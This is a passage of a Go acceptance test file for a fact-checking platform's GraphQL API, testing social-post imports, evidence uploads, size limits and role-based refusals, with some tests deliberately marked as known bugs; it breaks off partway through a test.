package graph_test

// Acceptance tests of the "evidence that holds up" issue, over HTTP against
// a real server and database:
//
//   - importPost: Twitter v1.1 and v2 JSON, archived pages and v1.1
//     deletion notices become statements and evidence, idempotently;
//   - attachments sent with the GraphQL multipart request spec: typed by
//     their bytes, stored once by content, limited in size, served so that
//     they can never run in the page;
//   - reviseEvidence: every version and its SHA-256 is kept;
//   - moderation: readers' items wait for an editor; rejection and
//     retraction need a reason;
//   - Claim.timeline and Actor.incidents, on the founding case.
//
// Every refused call checks extensions.code, extensions.field and that no
// table (the audit log included) gained or lost a row.
//
// Tests (or table rows) marked BUG fail on purpose: each states what the
// schema promises and what the code does instead.

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"maps"
	"mime"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/veredicto/veredicto/auth"
	"github.com/veredicto/veredicto/auth/session"
	"github.com/veredicto/veredicto/ent/actor"
	entevidence "github.com/veredicto/veredicto/ent/evidence"
	"github.com/veredicto/veredicto/evidence/store"
	"github.com/veredicto/veredicto/internal/apitest"
	"github.com/veredicto/veredicto/server"
)

// ---------------------------------------------------------------------
// The documents under test.

const (
	importPostDoc = `mutation($input: ImportPostInput!) {
		importPost(input: $input) {
			created
			statement {
				id platformID url text lang postedAt deleted deletedAt
				client clientURL archiveURL contentHash account { handle }
			}
			evidence { id kind stance status summary observedAt sourceURL archiveURL claim { id } statement { id } }
		}
	}`
	addEvidenceWithFilesDoc = `mutation($input: CreateEvidenceInput!, $attachments: [Upload!]) {
		addEvidence(input: $input, attachments: $attachments) {
			id status sha256 revision attachmentHashes
			attachments { id filename mime size sha256 url }
			revisions { number content sha256 }
		}
	}`
	reviseEvidenceDoc = `mutation($id: ID!, $input: UpdateEvidenceInput!, $note: String!, $attachments: [Upload!]) {
		reviseEvidence(id: $id, input: $input, note: $note, attachments: $attachments) {
			id summary status revision sha256 attachmentHashes
			attachments { sha256 }
			revisions { number content sha256 note editor { handle } }
		}
	}`
	moderatedFields  = `id status statusReason moderatedAt moderator { handle } revision`
	approveDoc       = `mutation($id: ID!) { approveEvidence(id: $id) { ` + moderatedFields + ` } }`
	rejectDoc        = `mutation($id: ID!, $reason: String!) { rejectEvidence(id: $id, reason: $reason) { ` + moderatedFields + ` } }`
	retractDoc       = `mutation($id: ID!, $reason: String!) { retractEvidence(id: $id, reason: $reason) { ` + moderatedFields + ` } }`
	queueDoc         = `{ moderationQueue(first: 50) { totalCount edges { node { id status submitter { handle } } } } }`
	claimEvidenceDoc = `query($id: ID!) { node(id: $id) { ... on Claim {
		evidence(first: 50) { totalCount edges { node { id status statusReason } } }
	} } }`
	timelineDoc = `query($id: ID!) { node(id: $id) { ... on Claim { timeline {
		events { kind subjectID evidenceKind summary at precision anchor gap { seconds en: description es: description(lang: "es") } }
		undated { kind subjectID evidenceKind at precision anchor gap { seconds } }
	} } } }`
	incidentsDoc = `query($id: ID!) { node(id: $id) { ... on Actor {
		incidents(first: 10) { totalCount edges { node { id kind status summary observedAt observedPrecision claim { id } } } }
	} } }`
)

// The shapes of the answers.

type importedPost struct {
	ImportPost struct {
		Created   bool
		Statement struct {
			ID, PlatformID, URL                        string
			Text, Lang, PostedAt, DeletedAt            *string
			Client, ClientURL, ArchiveURL, ContentHash *string
			Deleted                                    bool
			Account                                    struct{ Handle string }
		}
		Evidence []importedItem
	}
}

type importedItem struct {
	ID, Kind, Stance, Status, Summary string
	ObservedAt, SourceURL, ArchiveURL *string
	Claim                             struct{ ID string }
	Statement                         *struct{ ID string }
}

type attachmentOut struct {
	ID, Filename, Mime, Sha256, URL string
	Size                            int
}

type revisionOut struct {
	Number  int
	Content string
	Sha256  string
	Note    *string
	Editor  *struct{ Handle string }
}

type evidenceOut struct {
	ID, Summary, Status, Sha256 string
	Revision                    int
	AttachmentHashes            []string
	Attachments                 []attachmentOut
	Revisions                   []revisionOut
}

type moderatedOut struct {
	ID, Status   string
	StatusReason *string
	ModeratedAt  *string
	Moderator    *struct{ Handle string }
	Revision     int
}

type timelineEventOut struct {
	Kind, SubjectID, Summary string
	EvidenceKind, At         *string
	Precision                string
	Anchor                   bool
	Gap                      *struct {
		Seconds int
		En, Es  string
	}
}

// ---------------------------------------------------------------------
// The desk: a running Veredicto with a journalist and an editor.

type evidenceDesk struct {
	env                *apitest.Env
	journalist, editor *apitest.User
}

func openEvidenceDesk(t *testing.T, opts ...apitest.Option) *evidenceDesk {
	t.Helper()
	env := apitest.New(t, opts...)
	return &evidenceDesk{env: env, journalist: env.NewUser(auth.Journalist), editor: env.NewUser(auth.Editor)}
}

// uploadLimit sets the per-file attachment limit ($MAX_UPLOAD_BYTES) and
// allows 10 files per request, stated here rather than inherited from
// apitest's defaults so that each test says which limit it exercises.
func uploadLimit(perFile int64) apitest.Option {
	return func(c *server.Config) {
		c.MaxUploadBytes = perFile
		c.MaxUploads = 10
	}
}

// bodyLimit sets $MAX_BODY_BYTES.
func bodyLimit(n int64) apitest.Option {
	return func(c *server.Config) { c.MaxBodyBytes = n }
}

// newClaim records a claim about no statement yet and returns its id.
func (d *evidenceDesk) newClaim(t *testing.T, claimant string) string {
	t.Helper()
	ctx := d.env.Sys()
	a, err := d.env.Client.Actor.Create().SetName(claimant).SetKind(actor.KindParty).SetCountry("ES").Save(ctx)
	if err != nil {
		t.Fatalf("creating the claimant: %v", err)
	}
	c, err := d.env.Client.Claim.Create().SetClaimant(a).SetLang("es").
		SetText("La cuenta fue hackeada: el mensaje fue una broma de un hacker.").Save(ctx)
	if err != nil {
		t.Fatalf("creating the claim: %v", err)
	}
	return strconv.Itoa(c.ID)
}

// importPost imports a payload as u and fails the test on any error.
func (d *evidenceDesk) importPost(t *testing.T, u *apitest.User, claimID, format string, payload []byte) importedPost {
	t.Helper()
	var out importedPost
	u.MustDo(importPostDoc, importVars(claimID, format, payload), &out)
	return out
}

func importVars(claimID, format string, payload []byte) map[string]any {
	return map[string]any{"input": map[string]any{"claimID": claimID, "format": format, "payload": string(payload)}}
}

// unchanged runs call and checks that it wrote nothing anywhere.
func (d *evidenceDesk) unchanged(t *testing.T, call func()) {
	t.Helper()
	before := d.env.RowCounts()
	call()
	if after := d.env.RowCounts(); !maps.Equal(before, after) {
		t.Errorf("the call wrote rows: %s", countDiff(before, after))
	}
}

// checkRefused checks that r failed with code (and field, unless "-") and
// returned no data.
func checkRefused(t *testing.T, r *apitest.Response, code, field string) {
	t.Helper()
	if len(r.Errors) == 0 {
		t.Fatalf("the call succeeded, want %s; data: %s", code, r.Data)
	}
	if r.Code() != code || (field != "-" && r.Field() != field) {
		t.Errorf("error code %q field %q, want code %q field %q (message %q)", r.Code(), r.Field(), code, field, r.Errors[0].Message)
	}
	if d := strings.TrimSpace(string(r.Data)); d != "" && d != "null" {
		t.Errorf("a refused call returned data: %s", d)
	}
}

// mustRefuse checks that call is refused with code and field and writes
// nothing.
func (d *evidenceDesk) mustRefuse(t *testing.T, code, field string, call func() *apitest.Response) {
	t.Helper()
	d.unchanged(t, func() { checkRefused(t, call(), code, field) })
}

// checkWritten checks that each table gained exactly the rows want says
// (none when absent), and that the change was audited.
func checkWritten(t *testing.T, before, after, want map[string]int) {
	t.Helper()
	got := map[string]int{}
	for table, n := range after {
		if d := n - before[table]; d != 0 && table != "audit_events" {
			got[table] = d
		}
	}
	if !maps.Equal(got, want) {
		t.Errorf("the call wrote %s; want %v (besides audit events)", countDiff(before, after), want)
	}
	if after["audit_events"] <= before["audit_events"] {
		t.Errorf("the call wrote no audit event")
	}
}

func countDiff(before, after map[string]int) string {
	var parts []string
	for _, table := range slices.Sorted(maps.Keys(after)) {
		if after[table] != before[table] {
			parts = append(parts, fmt.Sprintf("%s %+d", table, after[table]-before[table]))
		}
	}
	return strings.Join(parts, ", ")
}

// fileUpload is a file sent with the multipart request spec.
type fileUpload struct {
	name        string // the file name the client sends
	contentType string // the type the client claims; the server must not believe it
	data        []byte
}

// multipartDo sends query with files bound to $attachments, following the
// GraphQL multipart request spec (operations, map, then one part per
// file), with u's session cookie (anonymous when u is nil).
func (d *evidenceDesk) multipartDo(t *testing.T, u *apitest.User, query string, vars map[string]any, files ...fileUpload) *apitest.Response {
	t.Helper()
	vars = maps.Clone(vars)
	if vars == nil {
		vars = map[string]any{}
	}
	vars["attachments"] = make([]any, len(files)) // nulls, replaced by the files
	paths := make([]string, len(files))
	for i := range files {
		paths[i] = fmt.Sprintf("variables.attachments.%d", i)
	}
	return d.multipartAt(t, u, query, vars, paths, files...)
}

// multipartAt sends query with each file bound to the variable path at the
// same index (vars must hold a null there).
func (d *evidenceDesk) multipartAt(t *testing.T, u *apitest.User, query string, vars map[string]any, paths []string, files ...fileUpload) *apitest.Response {
	t.Helper()
	operations, err := json.Marshal(map[string]any{"query": query, "variables": vars})
	if err != nil {
		t.Fatal(err)
	}
	fileMap := map[string][]string{}
	for i := range files {
		fileMap[strconv.Itoa(i)] = []string{paths[i]}
	}
	mapJSON, _ := json.Marshal(fileMap)

	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	_ = w.WriteField("operations", string(operations))
	_ = w.WriteField("map", string(mapJSON))
	for i, f := range files {
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", mime.FormatMediaType("form-data", map[string]string{"name": strconv.Itoa(i), "filename": f.name}))
		h.Set("Content-Type", f.contentType)
		part, err := w.CreatePart(h)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = part.Write(f.data)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	req, err := http.NewRequest(http.MethodPost, d.env.URL+"/graphql", &body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", w.FormDataContentType())
	if u != nil {
		req.AddCookie(&http.Cookie{Name: session.CookieName, Value: u.Cookie})
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("POST /graphql (multipart): %v", err)
	}
	defer res.Body.Close()
	raw, _ := io.ReadAll(res.Body)
	out := &apitest.Response{Status: res.StatusCode, Header: res.Header}
	if err := json.Unmarshal(raw, out); err != nil {
		t.Fatalf("POST /graphql (multipart): status %d, not GraphQL: %.300s", res.StatusCode, raw)
	}
	return out
}

// mustUpload is multipartDo that fails the test on any GraphQL error.
func (d *evidenceDesk) mustUpload(t *testing.T, u *apitest.User, query string, vars map[string]any, out any, files ...fileUpload) {
	t.Helper()
	r := d.multipartDo(t, u, query, vars, files...)
	if len(r.Errors) > 0 {
		t.Fatalf("unexpected GraphQL errors: %+v", r.Errors)
	}
	if err := json.Unmarshal(r.Data, out); err != nil {
		t.Fatalf("decoding %s: %v", r.Data, err)
	}
}

// download GETs an attachment's url as u (anonymous when nil).
func (d *evidenceDesk) download(t *testing.T, u *apitest.User, url string, header map[string]string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, d.env.URL+url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	if u != nil {
		req.AddCookie(&http.Cookie{Name: session.CookieName, Value: u.Cookie})
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer res.Body.Close()
	body, _ := io.ReadAll(res.Body)
	return res, body
}

// visibleEvidence is what c sees of a claim's evidence: the total count and
// each item's status by id.
func (d *evidenceDesk) visibleEvidence(t *testing.T, c *apitest.Caller, claimID string) (int, map[string]string) {
	t.Helper()
	var out struct {
		Node struct {
			Evidence struct {
				TotalCount int
				Edges      []struct{ Node struct{ ID, Status string } }
			}
		}
	}
	c.MustDo(claimEvidenceDoc, map[string]any{"id": claimID}, &out)
	statuses := map[string]string{}
	for _, e := range out.Node.Evidence.Edges {
		statuses[e.Node.ID] = e.Node.Status
	}
	return out.Node.Evidence.TotalCount, statuses
}

// addItem submits an evidence item (without files) as u.
func (d *evidenceDesk) addItem(t *testing.T, u *apitest.User, claimID, summary string) evidenceOut {
	t.Helper()
	var out struct{ AddEvidence evidenceOut }
	u.MustDo(addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, summary)}, &out)
	return out.AddEvidence
}

func itemInput(claimID, summary string) map[string]any {
	return map[string]any{
		"claimID":        claimID,
		"kind":           "SCREENSHOT",
		"stance":         "CONTEXT",
		"summary":        summary,
		"sourceURL":      "https://twitter.com/PSOE/status/158496143569846272",
		"observedAt":     "2012-01-15T10:35:00Z",
		"confidenceNote": "Captura tomada por un lector antes del borrado.",
	}
}

func readFixture(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading fixture: %v", err)
	}
	return b
}

func sha256Hex(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// tinyPNG encodes a real 2×2 PNG whose pixels depend on shade, so that
// different shades give different files.
func tinyPNG(t *testing.T, shade uint8) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 2, 2))
	img.Set(0, 0, color.RGBA{R: shade, A: 255})
	img.Set(1, 1, color.RGBA{G: 200, B: shade, A: 255})
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// strOrNull shows an optional string, "<null>" when absent.
func strOrNull(s *string) string {
	if s == nil {
		return "<null>"
	}
	return *s
}

const (
	// The fixtures. The v1.1 tweet is this package's own; the other
	// formats reuse the parser's fixtures (all synthetic, see their
	// READMEs).
	tweetV1Fixture     = "testdata/tweet_v1_tweetdeck.json"
	importpostFixtures = "../evidence/importpost/testdata/"
	// The founding case's post as the fixtures give it.
	fixtureTweetID  = "158496143569846272"
	fixturePostedAt = "2012-01-15T10:30:00Z"
)

// ---------------------------------------------------------------------
// importPost

func TestImportPostTwitterV1(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	claimID := d.newClaim(t, "Partido de prueba")
	payload := readFixture(t, tweetV1Fixture)

	before := d.env.RowCounts()
	got := d.importPost(t, d.journalist, claimID, "TWITTER_V1", payload).ImportPost
	if !got.Created {
		t.Errorf("created = false on the first import")
	}
	st := got.Statement
	for _, c := range []struct{ field, got, want string }{
		{"platformID", st.PlatformID, fixtureTweetID},
		{"url", st.URL, "https://twitter.com/PSOE/status/" + fixtureTweetID},
		{"account.handle", st.Account.Handle, "PSOE"},
		{"client", strOrNull(st.Client), "TweetDeck"},
		{"clientURL", strOrNull(st.ClientURL), "http://www.tweetdeck.com"},
		{"postedAt", strOrNull(st.PostedAt), fixturePostedAt},
		{"lang", strOrNull(st.Lang), "es"},
		// The v1.1 text is HTML-escaped; the statement keeps it readable.
		{"text", strOrNull(st.Text), "[synthetic fixture: the real text is not recorded] Debate de primarias: preguntas & respuestas #primarias"},
		{"contentHash", strOrNull(st.ContentHash), sha256Hex(payload)},
	} {
		if c.got != c.want {
			t.Errorf("statement.%s = %q, want %q", c.field, c.got, c.want)
		}
	}
	if st.Deleted || st.DeletedAt != nil {
		t.Errorf("a post is not deleted until a notice says so: deleted %v, deletedAt %s", st.Deleted, strOrNull(st.DeletedAt))
	}

	// The payload is kept verbatim, byte for byte.
	var raw []byte
	if err := d.env.DB.QueryRow(`SELECT raw_payload FROM statements WHERE id = $1`, st.ID).Scan(&raw); err != nil {
		t.Fatalf("reading statements.raw_payload: %v", err)
	}
	if !bytes.Equal(raw, payload) {
		t.Errorf("statements.raw_payload (%d bytes) differs from the payload sent (%d bytes)", len(raw), len(payload))
	}

	// One CLIENT_METADATA item, about the statement, published.
	if len(got.Evidence) != 1 {
		t.Fatalf("evidence = %+v, want one CLIENT_METADATA item", got.Evidence)
	}
	item := got.Evidence[0]
	if item.Kind != "CLIENT_METADATA" || item.Statement == nil || item.Statement.ID != st.ID || item.Claim.ID != claimID {
		t.Errorf("evidence = %+v, want CLIENT_METADATA on claim %s about statement %s", item, claimID, st.ID)
	}
	if item.Status != "PUBLISHED" || item.Stance != "CONTEXT" || !strings.Contains(item.Summary, "TweetDeck") {
		t.Errorf("evidence = %+v, want a PUBLISHED CONTEXT item naming TweetDeck", item)
	}
	if strOrNull(item.ObservedAt) != fixturePostedAt {
		t.Errorf("evidence observedAt = %s, want the post's time %s", strOrNull(item.ObservedAt), fixturePostedAt)
	}

	// The claim had no statement: it is now about the imported post.
	var claim struct {
		Node struct{ About *struct{ ID string } }
	}
	d.env.Anonymous().MustDo(`query($id: ID!) { node(id: $id) { ... on Claim { about { id } } } }`, map[string]any{"id": claimID}, &claim)
	if claim.Node.About == nil || claim.Node.About.ID != st.ID {
		t.Errorf("claim.about = %+v, want the imported statement %s", claim.Node.About, st.ID)
	}
	// The author was unknown: an actor and an account for @PSOE, the
	// statement, the item and its first revision (the claim is updated).
	checkWritten(t, before, d.env.RowCounts(), map[string]int{
		"actors": 1, "accounts": 1, "statements": 1, "evidence": 1, "evidence_revisions": 1,
	})

	// The same payload again writes nothing, the audit log included.
	d.unchanged(t, func() {
		again := d.importPost(t, d.journalist, claimID, "TWITTER_V1", payload).ImportPost
		if again.Created {
			t.Errorf("created = true on importing the same payload again")
		}
		if again.Statement.ID != st.ID || len(again.Evidence) != 1 || again.Evidence[0].ID != item.ID {
			t.Errorf("the second import returned statement %s, evidence %+v; want the first import's %s and %s",
				again.Statement.ID, again.Evidence, st.ID, item.ID)
		}
	})
}

func TestImportPostFormats(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, format, fixture string
		client, clientURL     string // "<null>" when not recorded
		archiveURL, text      string
		kinds                 []string
	}{
		{
			name: "Twitter v2 JSON", format: "TWITTER_V2", fixture: importpostFixtures + "v2_tweetdeck.json",
			client: "TweetDeck", clientURL: "<null>", archiveURL: "<null>",
			text:  "[synthetic fixture: the real text is not recorded] Q&A",
			kinds: []string{"CLIENT_METADATA"},
		},
		{
			name: "Wayback Machine copy of a 2012 page", format: "ARCHIVE_HTML", fixture: importpostFixtures + "archive_wayback_2012.html",
			client: "TweetDeck", clientURL: "http://www.tweetdeck.com/",
			archiveURL: "https://web.archive.org/web/20120115103512/http://twitter.com/PSOE/status/158496143569846272",
			text:       "[synthetic fixture: the real text is not recorded] Q&A #primarias http://www.psoe.es/ambito/actualidad 😀",
			kinds:      []string{"CLIENT_METADATA", "ARCHIVE"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			d := openEvidenceDesk(t)
			claimID := d.newClaim(t, "Partido de prueba")
			payload := readFixture(t, tc.fixture)
			got := d.importPost(t, d.journalist, claimID, tc.format, payload).ImportPost
			st := got.Statement
			if !got.Created || st.PlatformID != fixtureTweetID || strOrNull(st.PostedAt) != fixturePostedAt ||
				strOrNull(st.Client) != tc.client || strOrNull(st.ClientURL) != tc.clientURL ||
				strOrNull(st.ArchiveURL) != tc.archiveURL || strOrNull(st.Text) != tc.text {
				t.Errorf("imported %+v\nwant created, platformID %s, postedAt %s, client %q, clientURL %q, archiveURL %q, text %q",
					got, fixtureTweetID, fixturePostedAt, tc.client, tc.clientURL, tc.archiveURL, tc.text)
			}
			var kinds []string
			for _, e := range got.Evidence {
				kinds = append(kinds, e.Kind)
				if e.Statement == nil || e.Statement.ID != st.ID {
					t.Errorf("%s item is not linked to the statement: %+v", e.Kind, e)
				}
				if e.Kind == "ARCHIVE" && (strOrNull(e.ArchiveURL) != tc.archiveURL || strOrNull(e.ObservedAt) != "2012-01-15T10:35:12Z") {
					t.Errorf("ARCHIVE item = %+v, want the capture's URL and time (10:35:12)", e)
				}
			}
			if !slices.Equal(kinds, tc.kinds) {
				t.Errorf("evidence kinds = %v, want %v", kinds, tc.kinds)
			}
			var raw []byte
			if err := d.env.DB.QueryRow(`SELECT raw_payload FROM statements WHERE id = $1`, st.ID).Scan(&raw); err != nil || !bytes.Equal(raw, payload) {
				t.Errorf("raw_payload not kept verbatim (err %v, %d of %d bytes)", err, len(raw), len(payload))
			}
			d.unchanged(t, func() {
				if again := d.importPost(t, d.journalist, claimID, tc.format, payload).ImportPost; again.Created {
					t.Errorf("created = true on importing the same payload again")
				}
			})
		})
	}
}

func TestImportPostDeletionNotice(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, notice string
		deletedAt    string // "<null>": the notice gives no time
		gapSeconds   int    // of the deletion, when dated
	}{
		// A notice with timestamp_ms, 14 minutes after the post.
		{"with a timestamp", "delete.json", "2012-01-15T10:44:00Z", 840},
		// Notices of 2012 carried no timestamp: deleted, time unknown.
		{"without a timestamp (2012)", "delete_2012_no_timestamp.json", "<null>", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			d := openEvidenceDesk(t)
			claimID := d.newClaim(t, "Partido de prueba")
			post := d.importPost(t, d.journalist, claimID, "TWITTER_V1", readFixture(t, tweetV1Fixture)).ImportPost
			notice := readFixture(t, importpostFixtures+tc.notice)

			got := d.importPost(t, d.journalist, claimID, "TWITTER_V1_DELETION", notice).ImportPost
			st := got.Statement
			if !got.Created || st.ID != post.Statement.ID || !st.Deleted || strOrNull(st.DeletedAt) != tc.deletedAt {
				t.Errorf("created %v, statement %s deleted %v deletedAt %s; want created, statement %s deleted at %s",
					got.Created, st.ID, st.Deleted, strOrNull(st.DeletedAt), post.Statement.ID, tc.deletedAt)
			}
			if len(got.Evidence) != 1 || got.Evidence[0].Kind != "DELETED_POST" ||
				got.Evidence[0].Statement == nil || got.Evidence[0].Statement.ID != st.ID ||
				strOrNull(got.Evidence[0].ObservedAt) != tc.deletedAt {
				t.Errorf("evidence = %+v, want one DELETED_POST item about statement %s observed at %s", got.Evidence, st.ID, tc.deletedAt)
			}

			d.unchanged(t, func() {
				again := d.importPost(t, d.journalist, claimID, "TWITTER_V1_DELETION", notice).ImportPost
				if again.Created || len(again.Evidence) != 1 || again.Evidence[0].ID != got.Evidence[0].ID {
					t.Errorf("the same notice again: created %v, evidence %+v; want nothing new", again.Created, again.Evidence)
				}
			})

			// The claim's timeline shows the deletion where it is known.
			var tl struct {
				Node struct {
					Timeline struct{ Events, Undated []timelineEventOut }
				}
			}
			d.env.Anonymous().MustDo(timelineDoc, map[string]any{"id": claimID}, &tl)
			deleted := findEvent(tl.Node.Timeline.Events, "DELETED", "")
			if tc.deletedAt == "<null>" {
				if deleted != nil || findEvent(tl.Node.Timeline.Undated, "DELETED", "") == nil {
					t.Errorf("a deletion of unknown time must be undated; events %+v", tl.Node.Timeline)
				}
				return
			}
			if deleted == nil || deleted.Gap == nil || deleted.Gap.Seconds != tc.gapSeconds || deleted.Gap.En != "deleted 14 minutes after posting" {
				t.Errorf("timeline deletion = %+v, want a gap of %d s, \"deleted 14 minutes after posting\"", deleted, tc.gapSeconds)
			}
		})
	}
}

func TestImportPostRefusals(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	claimID := d.newClaim(t, "Partido de prueba")
	fresh := d.newClaim(t, "Otro partido")
	tweet := readFixture(t, tweetV1Fixture)
	d.importPost(t, d.journalist, claimID, "TWITTER_V1", tweet)

	withCreatedAt := func(createdAt string) []byte {
		return bytes.Replace(tweet, []byte(`"created_at":"Sun Jan 15 10:30:00 +0000 2012"`), []byte(`"created_at":"`+createdAt+`"`), 1)
	}

	for _, tc := range []struct {
		name, claimID, format string
		payload               []byte
		code, field           string
	}{
		{"a deletion notice for a post nobody recorded", fresh, "TWITTER_V1_DELETION",
			[]byte(`{"delete":{"status":{"id":158496143569999999,"id_str":"158496143569999999","user_id":8186022,"user_id_str":"8186022"},"timestamp_ms":"1326624240000"}}`),
			"BAD_USER_INPUT", "payload"},
		{"malformed JSON", fresh, "TWITTER_V1", []byte(`{"created_at":"Sun Jan 15 10:30:00 +0000 2012","id_str":`), "BAD_USER_INPUT", "payload"},
		{"an empty payload", fresh, "TWITTER_V1", []byte("  \n"), "BAD_USER_INPUT", "payload"},
		{"a post as a deletion notice", fresh, "TWITTER_V1_DELETION", tweet, "BAD_USER_INPUT", "payload"},
		{"a posted time that contradicts the recorded one", claimID, "TWITTER_V1",
			withCreatedAt("Sun Jan 15 10:31:00 +0000 2012"), "BAD_USER_INPUT", "payload"},
		{"a claim that does not exist", strconv.Itoa(1 << 40), "TWITTER_V1", tweet, "NOT_FOUND", "claimID"},
		// BUG: refused, but on field "deletedAt", which ImportPostInput
		// does not have: the statement's validation error leaks through.
		{"a deletion notice dated before the post", claimID, "TWITTER_V1_DELETION",
			[]byte(`{"delete":{"status":{"id":158496143569846272,"id_str":"158496143569846272","user_id":8186022,"user_id_str":"8186022"},"timestamp_ms":"1326620000000"}}`),
			"BAD_USER_INPUT", "payload"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d.mustRefuse(t, tc.code, tc.field, func() *apitest.Response {
				return d.journalist.Do(importPostDoc, importVars(tc.claimID, tc.format, tc.payload))
			})
		})
	}

	t.Run("the same instant in another offset is no conflict", func(t *testing.T) {
		d.unchanged(t, func() {
			got := d.importPost(t, d.journalist, claimID, "TWITTER_V1", withCreatedAt("Sun Jan 15 11:30:00 +0100 2012")).ImportPost
			if got.Created || strOrNull(got.Statement.PostedAt) != fixturePostedAt {
				t.Errorf("created %v, postedAt %s; want nothing new at %s", got.Created, strOrNull(got.Statement.PostedAt), fixturePostedAt)
			}
		})
	})
}

// archivePadded is the Wayback fixture grown to n bytes with an HTML
// comment before </html> (a real saved page carries kilobytes of scripts
// and styles the parser skips).
func archivePadded(t *testing.T, n int) []byte {
	t.Helper()
	page := readFixture(t, importpostFixtures+"archive_wayback_2012.html")
	end := bytes.LastIndex(page, []byte("</html>"))
	if end < 0 {
		t.Fatal("the archive fixture has no </html>")
	}
	pad := n - len(page) - len("<!--") - len("-->")
	if pad < 0 {
		t.Fatalf("cannot pad %d bytes to %d", len(page), n)
	}
	out := slices.Concat(page[:end], []byte("<!--"), bytes.Repeat([]byte("x"), pad), []byte("-->"), page[end:])
	if len(out) != n {
		t.Fatalf("padded to %d bytes, want %d", len(out), n)
	}
	return out
}

func TestImportPostPayloadTooLarge(t *testing.T) {
	t.Parallel()
	const limit = 2 << 20 // importPost's documented limit: 2 MiB
	t.Run("refused by the importer, on the payload field", func(t *testing.T) {
		t.Parallel()
		// A body limit above the payload's, so that the importer decides.
		d := openEvidenceDesk(t, bodyLimit(8<<20))
		claimID := d.newClaim(t, "Partido de prueba")
		d.mustRefuse(t, "PAYLOAD_TOO_LARGE", "payload", func() *apitest.Response {
			return d.journalist.Do(importPostDoc, importVars(claimID, "ARCHIVE_HTML", archivePadded(t, limit+1)))
		})
		// Exactly the limit is accepted.
		if got := d.importPost(t, d.journalist, claimID, "ARCHIVE_HTML", archivePadded(t, limit)).ImportPost; !got.Created {
			t.Errorf("a payload of exactly 2 MiB was not imported")
		}
	})
	t.Run("refused under the default configuration", func(t *testing.T) {
		t.Parallel()
		d := openEvidenceDesk(t)
		claimID := d.newClaim(t, "Partido de prueba")
		d.mustRefuse(t, "PAYLOAD_TOO_LARGE", "-", func() *apitest.Response {
			return d.journalist.Do(importPostDoc, importVars(claimID, "ARCHIVE_HTML", archivePadded(t, limit+1)))
		})
	})
}

// BUG: the schema promises payloads of up to 2 MiB, but under the default
// configuration ($MAX_BODY_BYTES = 1 MiB, which apitest mirrors) any
// request body over 1 MiB is refused before the importer sees it, so a
// 1.5 MiB archived page cannot be imported.
// Large archived pages come as a file (payloadFile): a request body is
// bounded to 1 MiB, an importable payload to 2 MiB.
func TestImportPostAcceptsPayloadsUpToTheDocumentedLimit(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	claimID := d.newClaim(t, "Partido de prueba")
	vars := map[string]any{"input": map[string]any{"claimID": claimID, "format": "ARCHIVE_HTML", "payloadFile": nil}}
	page := fileUpload{name: "captura.html", contentType: "text/html", data: archivePadded(t, 3<<19)} // 1.5 MiB
	r := d.multipartAt(t, d.journalist, importPostDoc, vars, []string{"variables.input.payloadFile"}, page)
	if len(r.Errors) > 0 {
		t.Fatalf("a 1.5 MiB archived page as payloadFile (the documented limit is 2 MiB) was refused: %s %q", r.Code(), r.Errors[0].Message)
	}
	big := fileUpload{name: "captura.html", contentType: "text/html", data: archivePadded(t, 2<<20+1)}
	r = d.multipartAt(t, d.journalist, importPostDoc, vars, []string{"variables.input.payloadFile"}, big)
	if r.Code() != "PAYLOAD_TOO_LARGE" {
		t.Fatalf("a payload file over 2 MiB: want PAYLOAD_TOO_LARGE, got %q %+v", r.Code(), r.Errors)
	}
	inline := d.journalist.Do(importPostDoc, importVars(claimID, "ARCHIVE_HTML", archivePadded(t, 3<<19)))
	if inline.Code() != "PAYLOAD_TOO_LARGE" {
		t.Fatalf("a 1.5 MiB inline payload is over the request limit: want PAYLOAD_TOO_LARGE, got %q", inline.Code())
	}
}

func TestImportPostIsForJournalists(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	reader := d.env.NewUser(auth.Reader)
	tweet := readFixture(t, tweetV1Fixture)

	t.Run("a post nobody recorded", func(t *testing.T) {
		claimID := d.newClaim(t, "Partido de prueba")
		for _, c := range []*apitest.Caller{d.env.Anonymous(), reader.Caller} {
			d.mustRefuse(t, "FORBIDDEN", "", func() *apitest.Response {
				return c.Do(importPostDoc, importVars(claimID, "TWITTER_V1", tweet))
			})
		}
	})

	// BUG: once a journalist has recorded the post, a reader can import it
	// into another claim about it: nothing in the import asks for a
	// journalist, and the evidence policy lets readers submit items, so
	// the reader's call succeeds and creates a (pending) CLIENT_METADATA
	// item, against the schema's "Journalists and editors".
	t.Run("a post already recorded, into another claim about it", func(t *testing.T) {
		first := d.newClaim(t, "Partido de prueba")
		st := d.importPost(t, d.journalist, first, "TWITTER_V1", tweet).ImportPost.Statement
		other := d.newClaim(t, "Otro partido")
